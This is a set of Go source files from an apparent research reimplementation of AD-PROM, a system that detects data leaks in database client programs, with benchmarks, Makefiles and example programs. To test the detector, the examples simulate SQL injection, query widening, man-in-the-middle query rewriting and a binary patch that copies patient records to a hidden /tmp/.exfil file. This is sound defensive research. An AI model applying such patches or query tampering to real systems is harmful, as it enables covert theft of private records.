package adprom

// One benchmark per evaluation artefact of the paper (§V). Each bench runs
// the corresponding experiment at Quick scale and reports, beyond time and
// allocations, the headline metric the paper's table or figure carries, so
// `go test -bench=. -benchmem` regenerates the whole evaluation. Run any
// experiment at full scale with `go run ./cmd/adprom experiment <id> -full`.

import (
	"fmt"
	"sync"
	"testing"
	"time"

	"adprom/internal/experiments"
)

func benchCfg(i int) experiments.Config {
	return experiments.Config{Quick: true, Seed: int64(i%7 + 1)}
}

var benchProfile struct {
	sync.Once
	p      *Profile
	traces []Trace
	err    error
}

func benchProfileAppH(b *testing.B) (*Profile, []Trace) {
	b.Helper()
	benchProfile.Do(func() {
		app := HospitalApp()
		traces, err := app.CollectTraces(ModeADPROM)
		if err != nil {
			benchProfile.err = err
			return
		}
		p, _, err := Train(app.Prog, traces, TrainOptions{Train: HMMOptions{MaxIters: 6}})
		benchProfile.p, benchProfile.traces, benchProfile.err = p, traces, err
	})
	if benchProfile.err != nil {
		b.Fatal(benchProfile.err)
	}
	return benchProfile.p, benchProfile.traces
}

// batchScorePass replays one stream through the seed's per-call scoring
// strategy — recompute the batch LogProb over the whole sliding window on
// every observed call, as detect.Engine did before incremental scoring — and
// returns the number of calls scored.
func batchScorePass(p *Profile, stream Trace) int {
	window := make([]string, 0, p.WindowLen)
	for _, c := range stream {
		window = append(window, c.Label)
		if len(window) > p.WindowLen {
			copy(window, window[1:])
			window = window[:p.WindowLen]
		}
		if len(window) == p.WindowLen {
			p.Score(window)
		}
	}
	return len(stream)
}

// BenchmarkRuntimeThroughput measures the tentpole end to end: 64 concurrent
// long-running client streams (the app's full trace corpus replayed as one
// continuous call stream each) multiplexed through one Runtime over a shared
// profile, ingested through the batched observe path (Session.ObserveBatch
// in chunks of 64) over the flat-kernel incremental scorer. The
// x_vs_batch_monitor metric is the speedup over looping the pre-runtime
// sequential Monitor (batch LogProb recomputed per call).
func BenchmarkRuntimeThroughput(b *testing.B) {
	p, traces := benchProfileAppH(b)
	const streams = 64
	const chunk = 64
	var stream Trace
	for _, tr := range traces {
		stream = append(stream, tr...)
	}

	// Baseline: the seed's sequential Monitor loop over the same 64 streams.
	baseStart := time.Now()
	baseCalls := 0
	for s := 0; s < streams; s++ {
		baseCalls += batchScorePass(p, stream)
	}
	baseRate := float64(baseCalls) / time.Since(baseStart).Seconds()

	b.ResetTimer()
	var calls uint64
	var lastStats RuntimeStats
	start := time.Now()
	for i := 0; i < b.N; i++ {
		rt := NewRuntime(p, WithQueueDepth(128))
		var wg sync.WaitGroup
		for s := 0; s < streams; s++ {
			wg.Add(1)
			go func(s int) {
				defer wg.Done()
				sess := rt.Session(fmt.Sprintf("bench-%02d", s))
				for lo := 0; lo < len(stream); lo += chunk {
					hi := lo + chunk
					if hi > len(stream) {
						hi = len(stream)
					}
					if err := sess.ObserveBatch(stream[lo:hi]); err != nil {
						b.Error(err)
						return
					}
				}
				if _, err := sess.Close(); err != nil {
					b.Error(err)
				}
			}(s)
		}
		wg.Wait()
		if err := rt.Close(); err != nil {
			b.Fatal(err)
		}
		lastStats = rt.Stats()
		calls += lastStats.Calls
	}
	rate := float64(calls) / time.Since(start).Seconds()
	b.ReportMetric(rate, "calls/s")
	b.ReportMetric(rate/baseRate, "x_vs_batch_monitor")
	// Per-call latency percentiles from the last iteration's observe-path
	// histogram, so BENCH_runtime.json carries the latency shape, not just
	// the mean throughput.
	b.ReportMetric(float64(lastStats.P50Latency.Nanoseconds()), "p50_latency_ns")
	b.ReportMetric(float64(lastStats.P95Latency.Nanoseconds()), "p95_latency_ns")
	b.ReportMetric(float64(lastStats.P99Latency.Nanoseconds()), "p99_latency_ns")
}

// BenchmarkInstrumentationOverhead prices the observability layer on the hot
// path: the same concurrent replay once with decision provenance disabled
// (histograms still on — they are not optional) and once with the default
// provenance sampling (ring 1024, 1-in-16). The overhead_pct metric is the
// throughput cost of the default instrumentation; the acceptance budget for
// the PR is 5%.
func BenchmarkInstrumentationOverhead(b *testing.B) {
	p, traces := benchProfileAppH(b)
	const streams = 16
	var stream Trace
	for _, tr := range traces {
		stream = append(stream, tr...)
	}

	replay := func(opts ...RuntimeOption) float64 {
		rt := NewRuntime(p, append([]RuntimeOption{WithQueueDepth(128)}, opts...)...)
		start := time.Now()
		var wg sync.WaitGroup
		for s := 0; s < streams; s++ {
			wg.Add(1)
			go func(s int) {
				defer wg.Done()
				sess := rt.Session(fmt.Sprintf("bench-%02d", s))
				for _, c := range stream {
					if err := sess.Observe(c); err != nil {
						b.Error(err)
						return
					}
				}
				if _, err := sess.Close(); err != nil {
					b.Error(err)
				}
			}(s)
		}
		wg.Wait()
		elapsed := time.Since(start)
		if err := rt.Close(); err != nil {
			b.Fatal(err)
		}
		return float64(rt.Stats().Calls) / elapsed.Seconds()
	}

	b.ResetTimer()
	var rateOff, rateOn float64
	for i := 0; i < b.N; i++ {
		rateOff += replay(WithDecisionLog(-1, 0))
		rateOn += replay() // default: ring 1024, sample 1-in-16
	}
	rateOff /= float64(b.N)
	rateOn /= float64(b.N)
	b.ReportMetric(rateOn, "calls/s")
	b.ReportMetric(rateOff, "baseline_calls/s")
	b.ReportMetric(100*(rateOff-rateOn)/rateOff, "overhead_pct")
}

// BenchmarkTracingOverhead prices end-to-end decision tracing on the
// tentpole path: the 64-stream batched replay of BenchmarkRuntimeThroughput,
// once with tracing off and once with the serve default trace store
// (capacity 1024, healthy traces sampled 1-in-16; alerts always kept). The
// overhead_pct metric is the throughput cost of tracing every op's
// admit/score/sink spans; the acceptance budget for the PR is 5%, enforced
// by bench-smoke via benchjson -metric-max.
//
// Each iteration interleaves several off/on replays and compares the best
// rate of each mode: a replay can run unluckily slow on a shared box but
// never unluckily fast, so best-of-K isolates the tracing cost from
// scheduler noise the same way the ns/op gate's min-of-N does.
func BenchmarkTracingOverhead(b *testing.B) {
	p, traces := benchProfileAppH(b)
	const streams = 64
	const chunk = 64
	const repeats = 4 // stream replays per session, lengthening each run past scheduler jitter
	const rounds = 3  // interleaved off/on replay pairs per iteration
	var stream Trace
	for _, tr := range traces {
		stream = append(stream, tr...)
	}

	replay := func(opts ...RuntimeOption) float64 {
		rt := NewRuntime(p, append([]RuntimeOption{WithQueueDepth(128)}, opts...)...)
		start := time.Now()
		var wg sync.WaitGroup
		for s := 0; s < streams; s++ {
			wg.Add(1)
			go func(s int) {
				defer wg.Done()
				sess := rt.Session(fmt.Sprintf("bench-%02d", s))
				for r := 0; r < repeats; r++ {
					for lo := 0; lo < len(stream); lo += chunk {
						hi := lo + chunk
						if hi > len(stream) {
							hi = len(stream)
						}
						if err := sess.ObserveBatch(stream[lo:hi]); err != nil {
							b.Error(err)
							return
						}
					}
				}
				if _, err := sess.Close(); err != nil {
					b.Error(err)
				}
			}(s)
		}
		wg.Wait()
		elapsed := time.Since(start)
		if err := rt.Close(); err != nil {
			b.Fatal(err)
		}
		return float64(rt.Stats().Calls) / elapsed.Seconds()
	}

	b.ResetTimer()
	var rateOff, rateOn float64
	for i := 0; i < b.N; i++ {
		var bestOff, bestOn float64
		for r := 0; r < rounds; r++ {
			if v := replay(); v > bestOff {
				bestOff = v
			}
			if v := replay(WithTracing(1024, 16)); v > bestOn {
				bestOn = v
			}
		}
		rateOff += bestOff
		rateOn += bestOn
	}
	rateOff /= float64(b.N)
	rateOn /= float64(b.N)
	b.ReportMetric(rateOn, "calls/s")
	b.ReportMetric(rateOff, "baseline_calls/s")
	b.ReportMetric(100*(rateOff-rateOn)/rateOff, "overhead_pct")
}

// BenchmarkTable3CADataset regenerates Table III: CA-dataset statistics.
func BenchmarkTable3CADataset(b *testing.B) {
	for i := 0; i < b.N; i++ {
		stats, _, err := experiments.Table3()
		if err != nil {
			b.Fatal(err)
		}
		var seqs int
		for _, s := range stats {
			seqs += s.Sequences
		}
		b.ReportMetric(float64(seqs), "sequences")
	}
}

// BenchmarkTable4SIRDataset regenerates Table IV: SIR-dataset statistics.
func BenchmarkTable4SIRDataset(b *testing.B) {
	for i := 0; i < b.N; i++ {
		stats, _, err := experiments.Table4()
		if err != nil {
			b.Fatal(err)
		}
		b.ReportMetric(float64(stats[3].States), "app4_states")
	}
}

// BenchmarkTable5AttackDetection regenerates Table V: AD-PROM vs CMarkov on
// the five attacks. The reported metrics count detections (paper: AD-PROM 5,
// CMarkov 3).
func BenchmarkTable5AttackDetection(b *testing.B) {
	for i := 0; i < b.N; i++ {
		rows, _, err := experiments.Table5(benchCfg(i))
		if err != nil {
			b.Fatal(err)
		}
		var ad, cm, conn int
		for _, r := range rows {
			if r.ADPROM {
				ad++
			}
			if r.CMarkov {
				cm++
			}
			if r.Connected {
				conn++
			}
		}
		b.ReportMetric(float64(ad), "adprom_detected")
		b.ReportMetric(float64(cm), "cmarkov_detected")
		b.ReportMetric(float64(conn), "connected_to_source")
	}
}

// BenchmarkTable6CollectorOverhead regenerates Table VI: Calls Collector vs
// ltrace. The metric is the average overhead decrease (paper: 78.29%).
func BenchmarkTable6CollectorOverhead(b *testing.B) {
	for i := 0; i < b.N; i++ {
		rows, _, err := experiments.Table6(benchCfg(i))
		if err != nil {
			b.Fatal(err)
		}
		var avg float64
		for _, r := range rows {
			avg += r.Decrease
		}
		b.ReportMetric(100*avg/float64(len(rows)), "overhead_decrease_%")
	}
}

// BenchmarkFig10Accuracy regenerates Figure 10: AD-PROM vs Rand-HMM FN rates
// at equal FP rates across App1–App4. The metric is the mean FN-rate gap
// (Rand-HMM − AD-PROM; positive means AD-PROM wins, as in the paper).
func BenchmarkFig10Accuracy(b *testing.B) {
	for i := 0; i < b.N; i++ {
		results, _, err := experiments.Fig10(benchCfg(i))
		if err != nil {
			b.Fatal(err)
		}
		var gap float64
		var n int
		for _, r := range results {
			for j := range r.FPRates {
				gap += r.RandHMM[j].FNRate - r.ADPROM[j].FNRate
				n++
			}
		}
		b.ReportMetric(gap/float64(n), "mean_fn_gap")
	}
}

// BenchmarkTable7Confusion regenerates Table VII: per-app confusion matrices
// against A-S2/A-S3 anomalies. The metric is the mean accuracy (paper ≈
// 0.997).
func BenchmarkTable7Confusion(b *testing.B) {
	for i := 0; i < b.N; i++ {
		rows, _, err := experiments.Table7(benchCfg(i))
		if err != nil {
			b.Fatal(err)
		}
		var acc float64
		for _, r := range rows {
			acc += r.Matrix.Accuracy()
		}
		b.ReportMetric(acc/float64(len(rows)), "mean_accuracy")
	}
}

// BenchmarkTable8TrainingSteps regenerates Table VIII: elapsed time per
// static-analysis step. The metric is aggregation's share of the total for
// the bash-scale app (the paper's dominant step).
func BenchmarkTable8TrainingSteps(b *testing.B) {
	for i := 0; i < b.N; i++ {
		rows, _, err := experiments.Table8(benchCfg(i))
		if err != nil {
			b.Fatal(err)
		}
		r := rows[3]
		total := r.BuildCFG + r.ProbEst + r.Aggregation
		b.ReportMetric(100*float64(r.Aggregation)/float64(total), "app4_aggregation_%")
	}
}

// BenchmarkAblationInitialisation runs the extension ablation: CTM-init +
// MAP prior vs ML-only vs random init (the design choices DESIGN.md calls
// out). The metric is the full system's FN rate at a 1%-FP budget.
func BenchmarkAblationInitialisation(b *testing.B) {
	for i := 0; i < b.N; i++ {
		rows, _, err := experiments.Ablation(benchCfg(i))
		if err != nil {
			b.Fatal(err)
		}
		b.ReportMetric(rows[0].FNAt1pct, "adprom_fn_at_1pct")
		b.ReportMetric(rows[2].FNAt1pct, "random_fn_at_1pct")
	}
}

// BenchmarkClusteringSpeedup regenerates the §V-D clustering experiment. The
// metric is the training-time reduction (paper: ≈70%).
func BenchmarkClusteringSpeedup(b *testing.B) {
	for i := 0; i < b.N; i++ {
		res, _, err := experiments.Clustering(benchCfg(i))
		if err != nil {
			b.Fatal(err)
		}
		b.ReportMetric(100*res.TimeReduction, "training_time_reduction_%")
		b.ReportMetric(float64(res.StatesBefore), "states_before")
		b.ReportMetric(float64(res.StatesAfter), "states_after")
	}
}
