module adprom

go 1.22
