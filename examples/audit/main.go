// Forensics and hardening extensions around the core detector:
//
//  1. Query-signature auditing (§VII mitigation): an attacker swaps the
//     lookup query for one of identical shape over another table. The call
//     trace is *identical* — the HMM is structurally blind — but the
//     signature auditor flags the swapped query.
//  2. Alert explanation: a flagged window is decomposed into per-call
//     log-likelihood contributions (the §II decoding problem), pointing the
//     administrator at the exact call that broke the pattern.
//  3. Adaptive thresholding (§IV-D): administrator feedback on a false
//     positive whitelists it for the future.
//
// Run with: go run ./examples/audit
package main

import (
	"fmt"
	"log"

	"adprom"
	"adprom/internal/detect"
	"adprom/internal/interp"
	"adprom/internal/ir"
)

func main() {
	app := adprom.BankingApp()
	traces, err := app.CollectTraces(adprom.ModeADPROM)
	if err != nil {
		log.Fatal(err)
	}
	prof, _, err := adprom.Train(app.Prog, traces, adprom.TrainOptions{})
	if err != nil {
		log.Fatal(err)
	}

	// ---- 1. query-signature audit --------------------------------------
	fmt.Println("== query-signature audit (§VII) ==")
	auditor := adprom.NewQueryAuditor()
	runWithQueries := func(prog *adprom.Program, input ...string) ([]interp.QueryRecord, adprom.Trace) {
		var world *interp.World
		tr, err := app.RunCase(prog, adprom.TestCase{Name: "run", Input: input},
			adprom.ModeADPROM, func(_ *interp.Interp, w *interp.World) {
				world = w
				// The attacker's shadow table exists in production.
				w.DB.MustExec("CREATE TABLE payroll (id INT, name TEXT, salary INT)")
				for i := 1; i <= 25; i++ {
					w.DB.MustExec(fmt.Sprintf("INSERT INTO payroll VALUES (%d, 'emp%d', %d)", 100+i, i, i*1000))
				}
			})
		if err != nil {
			log.Fatal(err)
		}
		return world.Queries, tr
	}

	normalQ, normalTrace := runWithQueries(app.Prog, "1", "105")
	auditor.Learn(normalQ)
	fmt.Printf("learned %d signatures from normal runs\n", len(auditor.Signatures()))

	// Attacker edit: same query shape, different table — same selectivity.
	evil := ir.Clone(app.Prog)
	blk := evil.Func("lookupAccount").Blocks[0]
	lc := blk.Stmts[0].(ir.LibCall)
	lc.Args = []ir.Expr{ir.S("SELECT * FROM payroll WHERE id='")}
	blk.Stmts[0] = lc

	evilQ, evilTrace := runWithQueries(evil, "1", "105")
	hmmsAlerts := adprom.NewMonitor(prof).ObserveTrace(evilTrace)
	fmt.Printf("HMM alerts on the swapped query: %d (trace is label-identical: %v)\n",
		len(hmmsAlerts), len(normalTrace) == len(evilTrace))
	for _, v := range auditor.Check(evilQ) {
		fmt.Printf("AUDIT VIOLATION at %s: %q\n", v.Record.Origin, v.Signature)
	}

	// ---- 2. alert explanation ------------------------------------------
	fmt.Println("\n== alert explanation ==")
	injTrace, err := app.RunCase(app.Prog,
		adprom.TestCase{Name: "inj", Input: []string{"1", adprom.TautologyPayload}},
		adprom.ModeADPROM, nil)
	if err != nil {
		log.Fatal(err)
	}
	alerts := adprom.NewMonitor(prof).ObserveTrace(injTrace)
	for _, a := range alerts {
		if a.Flag == adprom.FlagDL && len(a.Window) == prof.WindowLen {
			ex, err := detect.Explain(prof, a.Window)
			if err != nil {
				log.Fatal(err)
			}
			fmt.Printf("flagged window (score %.3f); costliest call is #%d:\n%s",
				a.Score, ex.WorstIndex, ex)
			break
		}
	}

	// ---- 3. administrator feedback --------------------------------------
	fmt.Println("\n== adaptive threshold ==")
	eng := detect.NewEngine(prof)
	eng.SetThreshold(prof.Threshold + 0.5) // over-tight deployment
	var fp *adprom.Alert
	for _, tr := range traces {
		eng.ResetWindow()
		for _, c := range tr {
			for _, a := range eng.Observe(c) {
				if a.Flag == adprom.FlagAnomalous || a.Flag == adprom.FlagDL {
					cp := a
					fp = &cp
				}
			}
		}
		for _, a := range eng.Flush() {
			if a.Flag == adprom.FlagAnomalous || a.Flag == adprom.FlagDL {
				cp := a
				fp = &cp
			}
		}
		if fp != nil {
			break
		}
	}
	if fp == nil {
		fmt.Println("over-tight threshold raised nothing on this trace")
		return
	}
	fmt.Printf("false positive at threshold %.3f (score %.3f)\n", eng.Threshold(), fp.Score)
	eng.MarkFalsePositive(*fp, 0)
	fmt.Printf("administrator feedback applied; threshold now %.3f\n", eng.Threshold())
}
