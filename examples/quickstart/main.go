// Quickstart: profile a small database client and catch a query-selectivity
// attack (the paper's Figure 1 scenario).
//
// The program queries one item and prints it. The attacker widens the WHERE
// predicate from = to >=, so the fetch/print loop runs once per table row —
// AD-PROM notices the changed call sequence and links the leak back to the
// query that produced the data.
//
// Run with: go run ./examples/quickstart
package main

import (
	"fmt"
	"log"
	"sync"

	"adprom"
)

// buildClient constructs the Figure 1 client: query, count rows, loop, print
// each value. whereClause controls the query's selectivity.
func buildClient(name, whereClause string) *adprom.Program {
	b := adprom.NewProgram(name)
	m := b.Func("main")
	entry := m.Block()
	loop := m.Block()
	body := m.Block()
	done := m.Block()

	entry.CallTo("conn", "PQconnectdb")
	entry.CallTo("result", "PQexec", adprom.V("conn"), adprom.S("SELECT * FROM items WHERE "+whereClause))
	entry.CallTo("rows", "PQntuples", adprom.V("result"))
	entry.Assign("r", adprom.I(0))
	entry.Goto(loop)
	loop.If(adprom.Lt(adprom.V("r"), adprom.V("rows")), body, done)
	body.CallTo("v", "PQgetvalue", adprom.V("result"), adprom.V("r"), adprom.I(1))
	body.Call("printf", adprom.S("%s\n"), adprom.V("v"))
	body.Assign("r", adprom.Add(adprom.V("r"), adprom.I(1)))
	body.Goto(loop)
	done.Call("PQfinish", adprom.V("conn"))
	done.Ret()
	return b.MustBuild()
}

func seedDB() *adprom.Database {
	db := adprom.NewDatabase()
	db.MustExec("CREATE TABLE items (id INT, name TEXT)")
	for i := 0; i < 8; i++ {
		db.MustExec(fmt.Sprintf("INSERT INTO items VALUES (%d, 'item-%d')", 10+i, i))
	}
	return db
}

// runAndCollect executes prog against a fresh copy of the data and returns
// its library-call trace.
func runAndCollect(prog *adprom.Program) adprom.Trace {
	world := adprom.NewWorld(seedDB())
	ip := adprom.NewInterp(prog, world)
	col := adprom.NewCollector(adprom.ModeADPROM)
	ip.AddHook(col.Hook())
	if _, err := ip.Run(); err != nil {
		log.Fatal(err)
	}
	return col.Trace()
}

func main() {
	original := buildClient("quickstart", "id = 10")

	// Training phase: static analysis + HMM over a handful of normal runs.
	var traces []adprom.Trace
	for i := 0; i < 10; i++ {
		traces = append(traces, runAndCollect(original))
	}
	prof, sa, err := adprom.Train(original, traces, adprom.TrainOptions{})
	if err != nil {
		log.Fatal(err)
	}
	fmt.Printf("trained profile: %d hidden states, %d labelled output sites, threshold %.3f\n",
		prof.StatesAfter, len(sa.DDG.Labels), prof.Threshold)

	// Detection phase, normal behaviour: silent.
	mon := adprom.NewMonitor(prof)
	if alerts := mon.ObserveTrace(runAndCollect(original)); len(alerts) == 0 {
		fmt.Println("normal run: no alerts")
	}

	// The attack: the predicate widens, the program now prints every row.
	attacked := buildClient("quickstart", "id >= 10")
	mon2 := adprom.NewMonitor(prof, adprom.WithSink(adprom.AlertFunc(func(a adprom.Alert) {
		fmt.Printf("ALERT %-10s score %.3f < %.3f", a.Flag, a.Score, a.Threshold)
		if len(a.Origins) > 0 {
			fmt.Printf("  leaked from query at %v", a.Origins)
		}
		fmt.Println()
	})))
	fmt.Println("attacked run (WHERE id >= 10):")
	if alerts := mon2.ObserveTrace(runAndCollect(attacked)); len(alerts) == 0 {
		fmt.Println("  (no alerts — unexpected)")
	}

	// Serving many clients at once: a Runtime multiplexes per-session call
	// streams onto a pool of detection workers sharing the trained profile.
	rt := adprom.NewRuntime(prof,
		adprom.WithWorkers(4),
		adprom.WithSessionSink(func(id string, a adprom.Alert) {
			fmt.Printf("  [%s] ALERT %s score %.3f < %.3f\n", id, a.Flag, a.Score, a.Threshold)
		}))
	fmt.Println("concurrent replay (3 normal clients, 1 attacked):")
	var wg sync.WaitGroup
	for i := 0; i < 4; i++ {
		wg.Add(1)
		go func(i int) {
			defer wg.Done()
			prog := original
			if i == 3 {
				prog = attacked
			}
			session := rt.Session(fmt.Sprintf("client-%d", i))
			if _, err := session.ObserveTrace(runAndCollect(prog)); err != nil {
				log.Fatal(err)
			}
		}(i)
	}
	wg.Wait()
	if err := rt.Close(); err != nil {
		log.Fatal(err)
	}
	st := rt.Stats()
	fmt.Printf("runtime: %d calls scored, %d alerts, %d sessions\n",
		st.Calls, st.AlertTotal(), st.SessionsOpened)
}
