// Man-in-the-middle (the paper's attack 3.2): the application is completely
// unmodified, but its database connection is unencrypted, and an attacker on
// the path rewrites queries in transit to harvest more rows. The program
// faithfully iterates over the inflated result set — and that change in its
// call sequence is what AD-PROM flags.
//
// Run with: go run ./examples/mitm
package main

import (
	"fmt"
	"log"

	"adprom"
	"adprom/internal/attack"
	"adprom/internal/interp"
)

func main() {
	app := adprom.BankingApp()

	traces, err := app.CollectTraces(adprom.ModeADPROM)
	if err != nil {
		log.Fatal(err)
	}
	prof, _, err := adprom.Train(app.Prog, traces, adprom.TrainOptions{})
	if err != nil {
		log.Fatal(err)
	}

	tc := adprom.TestCase{Name: "statement", Input: []string{"5", "101"}}

	clean, err := app.RunCase(app.Prog, tc, adprom.ModeADPROM, nil)
	if err != nil {
		log.Fatal(err)
	}
	fmt.Printf("clean statement run: %d calls, %d alerts\n",
		len(clean), len(adprom.NewMonitor(prof).ObserveTrace(clean)))

	// The wire turns hostile: every "WHERE client_id =" becomes ">=".
	mitm := attack.AppBMITM()
	hostile, err := app.RunCase(app.Prog, tc, adprom.ModeADPROM,
		func(ip *interp.Interp, w *interp.World) { mitm.Setup(ip, w) })
	if err != nil {
		log.Fatal(err)
	}
	fmt.Printf("\nMITM-rewritten run: %d calls (result set inflated in transit)\n", len(hostile))

	alerts := adprom.NewMonitor(prof).ObserveTrace(hostile)
	fmt.Printf("alerts: %d\n", len(alerts))
	for i, a := range alerts {
		if i >= 3 {
			fmt.Printf("  ... and %d more\n", len(alerts)-3)
			break
		}
		fmt.Printf("  %-10s score %.3f < %.3f origins %v\n", a.Flag, a.Score, a.Threshold, a.Origins)
	}
}
