// SQL injection end to end: the paper's Figure 2 / attack 5 scenario against
// the bundled banking application.
//
// The banking app's account lookup concatenates raw user input into its
// query (no prepared statement). A tautology payload turns the WHERE clause
// into an always-true predicate, the engine really returns every client
// record, and the program's fetch/print loop runs once per record — the
// behavioural change AD-PROM detects and traces back to the lookup query.
//
// Run with: go run ./examples/sqlinjection
package main

import (
	"fmt"
	"log"

	"adprom"
)

func main() {
	app := adprom.BankingApp()

	// Training: the full normal test-case corpus of the app.
	traces, err := app.CollectTraces(adprom.ModeADPROM)
	if err != nil {
		log.Fatal(err)
	}
	prof, _, err := adprom.Train(app.Prog, traces, adprom.TrainOptions{})
	if err != nil {
		log.Fatal(err)
	}
	fmt.Printf("profile for %s: %d states, threshold %.3f\n", prof.Program, prof.StatesAfter, prof.Threshold)

	// A legitimate lookup is quiet.
	normal, err := app.RunCase(app.Prog, adprom.TestCase{Name: "lookup", Input: []string{"1", "105"}},
		adprom.ModeADPROM, nil)
	if err != nil {
		log.Fatal(err)
	}
	fmt.Printf("legitimate lookup (id=105): %d calls, %d alerts\n",
		len(normal), len(adprom.NewMonitor(prof).ObserveTrace(normal)))

	// The attack needs no code or binary access — just a crafted input.
	payload := adprom.TautologyPayload
	fmt.Printf("\ninjecting %q\n", payload)
	injected, err := app.RunCase(app.Prog, adprom.TestCase{Name: "inject", Input: []string{"1", payload}},
		adprom.ModeADPROM, nil)
	if err != nil {
		log.Fatal(err)
	}
	fmt.Printf("injected lookup: %d calls (the loop now visits every client row)\n", len(injected))

	alerts := adprom.NewMonitor(prof).ObserveTrace(injected)
	dl := 0
	for _, a := range alerts {
		if a.Flag == adprom.FlagDL {
			dl++
		}
	}
	fmt.Printf("alerts: %d total, %d flagged DL\n", len(alerts), dl)
	for _, a := range alerts {
		if a.Flag == adprom.FlagDL {
			fmt.Printf("  e.g. window score %.3f < %.3f, leak source %v\n", a.Score, a.Threshold, a.Origins)
			break
		}
	}
}
