// Hospital monitoring: profile the bundled hospital client, then stage a
// Dyninst-style binary patch (the paper's attack case 2 / §V-C attack 4)
// that copies every looked-up patient record into a hidden file.
//
// The demo shows the full pipeline: static analysis artefacts, training,
// quiet normal operation, the DL alert chain for the patched binary, and the
// §VII file-audit mitigation (the exfiltration file is flagged as tainted by
// the query's origin).
//
// Run with: go run ./examples/hospital
package main

import (
	"fmt"
	"log"

	"adprom"
	"adprom/internal/attack"
	"adprom/internal/interp"
	"adprom/internal/ir"
)

func main() {
	app := adprom.HospitalApp()

	// Phase 1: training.
	traces, err := app.CollectTraces(adprom.ModeADPROM)
	if err != nil {
		log.Fatal(err)
	}
	prof, sa, err := adprom.Train(app.Prog, traces, adprom.TrainOptions{})
	if err != nil {
		log.Fatal(err)
	}
	fmt.Printf("static analysis: %d call sites, %d DDG-labelled outputs, pCTM %d sites\n",
		app.NumStates(), len(sa.DDG.Labels), sa.PCTM.NumSites())
	fmt.Printf("profile: %d states, threshold %.3f, trained %d iterations\n",
		prof.StatesAfter, prof.Threshold, prof.TrainResult.Iterations)

	// Phase 2: normal operation is quiet.
	quiet := 0
	for _, tc := range app.TestCases[:20] {
		tr, err := app.RunCase(app.Prog, tc, adprom.ModeADPROM, nil)
		if err != nil {
			log.Fatal(err)
		}
		quiet += len(adprom.NewMonitor(prof).ObserveTrace(tr))
	}
	fmt.Printf("20 normal operations: %d alerts\n", quiet)

	// Phase 3: the attacker patches the binary — lookupPatient's row loop
	// (block 2) additionally appends each record to /tmp/.exfil.
	patched, err := attack.InsertStmts(app.Prog, "lookupPatient", 2, 2,
		ir.LibCall{Dst: "xf", Name: "fopen", Args: []ir.Expr{ir.S("/tmp/.exfil"), ir.S("a")}},
		ir.LibCall{Name: "fprintf", Args: []ir.Expr{ir.V("xf"), ir.S("%s|%s\n"), ir.V("name"), ir.V("ward")}},
		ir.LibCall{Name: "fclose", Args: []ir.Expr{ir.V("xf")}},
	)
	if err != nil {
		log.Fatal(err)
	}
	fmt.Println("\nbinary patched: lookupPatient now copies records to /tmp/.exfil")

	var world *interp.World
	tr, err := app.RunCase(patched, adprom.TestCase{Name: "lookup", Input: []string{"1", "7"}},
		adprom.ModeADPROM, func(_ *interp.Interp, w *interp.World) { world = w })
	if err != nil {
		log.Fatal(err)
	}
	for _, a := range adprom.NewMonitor(prof).ObserveTrace(tr) {
		fmt.Printf("  ALERT %-12s", a.Flag)
		if a.Score != 0 {
			fmt.Printf(" score %.3f < %.3f", a.Score, a.Threshold)
		}
		if len(a.Origins) > 0 {
			fmt.Printf("  source query at %v", a.Origins)
		}
		fmt.Println()
	}

	// §VII mitigation: files that received TD are labelled for auditing.
	if tainted := world.TaintedFiles(); len(tainted) > 0 {
		fmt.Printf("tainted files flagged for audit: %v\n", tainted)
		fmt.Printf("  /tmp/.exfil contents: %q\n", world.Files["/tmp/.exfil"].Contents())
	}
}
