# Tier-1 verification plus the static and race checks added with the
# concurrent runtime. `make verify` is the pre-merge gate.

GO ?= go

.PHONY: all build test vet race verify bench serve-demo

all: verify

build:
	$(GO) build ./...

test:
	$(GO) test ./...

vet:
	$(GO) vet ./...

# The runtime package is the concurrency-critical surface; -race across the
# whole module also covers the facade's Runtime tests.
race:
	$(GO) test -race ./internal/runtime/... .

verify: build test vet race

bench:
	$(GO) test -run '^$$' -bench BenchmarkRuntimeThroughput -benchtime 3x .

serve-demo:
	$(GO) run ./cmd/adprom serve -app apph -streams 64 -workers 4
