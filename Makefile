# Tier-1 verification plus the static, race, and fuzz checks added with the
# concurrent runtime and the profile codec. `make verify` is the pre-merge
# gate.

GO ?= go

.PHONY: all build test vet race fuzz verify bench bench-smoke serve-demo

# The microbenches gated by bench-smoke; keep in sync with the names in
# internal/hmm/bench_test.go, internal/shed/bench_test.go,
# internal/tenant/tenant_test.go, internal/ingest/frame_test.go and
# internal/sqlchan/sqlchan_test.go.
SCORER_BENCHES = BenchmarkScorerLogProb|BenchmarkStreamPush|BenchmarkStreamPushBatch
SMOKE_BENCHES = $(SCORER_BENCHES)|BenchmarkShedDecide|BenchmarkTenantRoute|BenchmarkIngestDecode|BenchmarkSQLChanObserve

all: verify

build:
	$(GO) build ./...

# internal/experiments alone runs ~9 minutes of full-scale replays; the
# explicit timeout keeps the per-package default from tripping when the
# package set runs in parallel on a loaded machine.
test:
	$(GO) test -timeout 30m ./...

vet:
	$(GO) vet ./...

# The runtime package is the concurrency-critical surface; -race across the
# whole module also covers the facade's Runtime tests. tenant and ingest
# carry the fleet chaos suite and the network front door.
race:
	$(GO) test -race ./internal/runtime/... ./internal/lifecycle/... ./internal/tenant/... ./internal/ingest/... .

# A short coverage-guided smoke over the hostile-input surfaces — the profile
# codec, the ingest frame decoder, and the SQL-channel scorer (arbitrary query
# text and cardinalities): enough to catch regressions on every verify without
# the cost of a long campaign.
fuzz:
	$(GO) test -run '^$$' -fuzz '^FuzzLoad$$' -fuzztime 5s ./internal/profile
	$(GO) test -run '^$$' -fuzz '^FuzzDecodeFrame$$' -fuzztime 5s ./internal/ingest
	$(GO) test -run '^$$' -fuzz '^FuzzSQLChanObserve$$' -fuzztime 5s ./internal/sqlchan

verify: build test vet race fuzz

# bench writes the human-readable log to BENCH_runtime.txt and a
# machine-readable report (name, ns/op, allocs/op, throughput and latency-
# percentile metrics) to BENCH_runtime.json; CI archives both as artifacts.
bench:
	$(GO) test -run '^$$' -bench 'BenchmarkRuntimeThroughput|BenchmarkInstrumentationOverhead|BenchmarkTracingOverhead' -benchmem -benchtime 3x . > BENCH_runtime.txt
	$(GO) test -run '^$$' -bench . -benchmem -count 3 ./internal/hmm >> BENCH_runtime.txt
	$(GO) test -run '^$$' -bench . -benchmem -count 3 ./internal/shed >> BENCH_runtime.txt
	$(GO) test -run '^$$' -bench . -benchmem -count 3 ./internal/tenant >> BENCH_runtime.txt
	$(GO) test -run '^$$' -bench . -benchmem -count 3 ./internal/ingest >> BENCH_runtime.txt
